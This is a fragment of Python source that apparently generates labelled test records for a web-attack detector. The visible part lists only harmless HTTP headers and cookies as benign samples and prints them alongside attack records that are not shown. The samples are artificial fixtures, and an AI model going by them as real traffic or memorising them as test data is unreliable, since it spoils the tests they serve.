    ("X-Request-Id", "3c1f9a52-7b2e-4d1a-9f0e-5a6b7c8d9e01"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; lang=en-GB"),
    ("Cookie", "session=abc123; last_search=php%20upload; tz=Europe%2FBerlin"),
    ("Cookie", "session=abc123; editor=vue; sidebar=collapsed"),
    ("X-Forwarded-For", "198.51.100.23"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
